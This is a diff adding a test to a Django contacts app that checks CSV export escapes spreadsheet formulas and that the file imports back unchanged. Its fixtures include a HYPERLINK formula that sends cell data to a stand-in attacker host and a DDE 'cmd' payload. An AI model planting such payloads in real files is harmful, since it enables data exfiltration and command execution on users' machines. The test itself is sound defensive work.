@@ -57,3 +57,34 @@ def test_the_export_reads_one_query_per_chunk(alice, audience, monkeypatch, djan
     with django_assert_num_queries(1 + 4):  # the custom fields, then 7 contacts in chunks of 2
         lines = list(exports.export_csv(owner=alice.user))
     assert len(lines) == 8
+
+
+def test_texts_a_spreadsheet_would_run_are_quoted_and_import_back_unchanged(alice, bob):
+    """CSV injection: a contact named `=HYPERLINK(…)` opens as text, and the file imports back as it was."""
+    from contacts import imports
+    from contacts.models import Contact
+
+    names = {"first_name": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "last_name": "@SUM(A1:A9)",
+             "company": "-2+3", "custom": {"Note": "+cmd|' /C calc'!A0"}}  # fmt: skip
+    services.create_custom_field(owner=alice.user, name="Note", type="text")
+    services.create_contact(owner=alice.user, email="ann@example.com", phone="+14155550123", tags=["=tag"], **names)
+    exported = "".join(exports.export_csv(owner=alice.user))
+    row = rows([exported])[0]
+    assert (row["first_name"], row["last_name"], row["company"], row["Note"], row["tags"]) == (
+        "'" + names["first_name"],
+        "'@SUM(A1:A9)",
+        "'-2+3",
+        "'+cmd|' /C calc'!A0",
+        "'=tag",
+    )
+    assert row["phone"] == "+14155550123"  # a number stays a number
+    services.create_custom_field(owner=bob.user, name="Note", type="text")
+    job = services.start_import(owner=bob.user, filename="export.csv", data=exported.encode(), enqueue=False)
+    assert imports.run_import(job.pk).rows_created == 1
+    again = Contact.objects.for_tenant(bob.user).get()
+    assert (again.first_name, again.last_name, again.company) == (
+        names["first_name"],
+        names["last_name"],
+        names["company"],
+    )
+    assert list(again.custom.values()) == [names["custom"]["Note"]]
